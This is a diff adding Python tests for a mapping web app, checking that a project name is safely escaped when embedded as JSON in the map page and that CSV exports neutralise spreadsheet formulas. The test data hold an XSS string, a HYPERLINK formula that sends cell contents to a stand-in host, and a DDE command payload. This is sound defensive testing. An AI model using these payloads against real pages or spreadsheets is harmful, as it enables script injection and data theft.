@@ -139,3 +139,54 @@ def test_time_budget_stops_the_work_with_503(client, monkeypatch):
     assert "was stopped" in detail and r.headers["retry-after"]
     monkeypatch.undo()
     _still_answers(client)
+
+
+# --- Safe in every context --------------------------------------------------------------------
+
+HOSTILE_NAME = "<!--<script>alert(1)</script>&\u2028\u2029 项目"
+
+
+def _store_with_project_name(store, name: str):
+    from planmap.store import Layer, LayerStore
+    layers = dict(store.layers)
+    gdf = store.get("projects").gdf.copy()
+    gdf.iloc[0, gdf.columns.get_loc("name")] = name
+    layers["projects"] = Layer(store.get("projects").spec, gdf)
+    return LayerStore(layers, etag="hostile")
+
+
+def test_map_page_json_has_no_markup_and_keeps_the_name(store):
+    """A project name with an HTML comment opener and a script tag used to stop /map initialising."""
+    from planmap.web.mapview import MapOptions, render_html
+    page = render_html(_store_with_project_name(store, HOSTILE_NAME), MapOptions(layers=("projects",)))
+    start = page.index("PlanMap.init(")
+    call = page[start: page.index("</script>", start)]
+    config_text = call[call.index(",") + 1: call.rindex(")")].strip()
+    assert not any(ch in config_text for ch in "<>&\u2028\u2029")
+    assert HOSTILE_NAME in json.dumps(json.loads(config_text), ensure_ascii=False)
+
+
+def test_script_json_escapes_markup_losslessly():
+    from planmap.web.safejson import script_json
+    assert script_json({"n": HOSTILE_NAME}) == (
+        '{"n":"\\u003c!--\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\u0026\\u2028\\u2029 项目"}')
+    assert json.loads(script_json({"n": HOSTILE_NAME}))["n"] == HOSTILE_NAME
+
+
+def test_csv_export_neutralises_formulas_but_not_numbers(store):
+    import csv
+    import io
+
+    from planmap.export.files import export_layer
+    from planmap.geo.crs import resolve
+    from planmap.store import Layer
+    layer = store.get("projects")
+    gdf = layer.gdf.copy()
+    cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-1+1",
+             "@SUM(1,2)", "\tx", "\rx", "普通项目"]
+    gdf.iloc[:len(cells), gdf.columns.get_loc("name")] = cells
+    gdf.iloc[0, gdf.columns.get_loc("investment_yi")] = -1.5
+    data = export_layer(Layer(layer.spec, gdf), "csv", resolve(None))
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert [r["name"] for r in rows[:len(cells)]] == ["'" + c for c in cells[:-1]] + ["普通项目"]
+    assert rows[0]["investment_yi"] == "-1.5"  # a real number stays a number
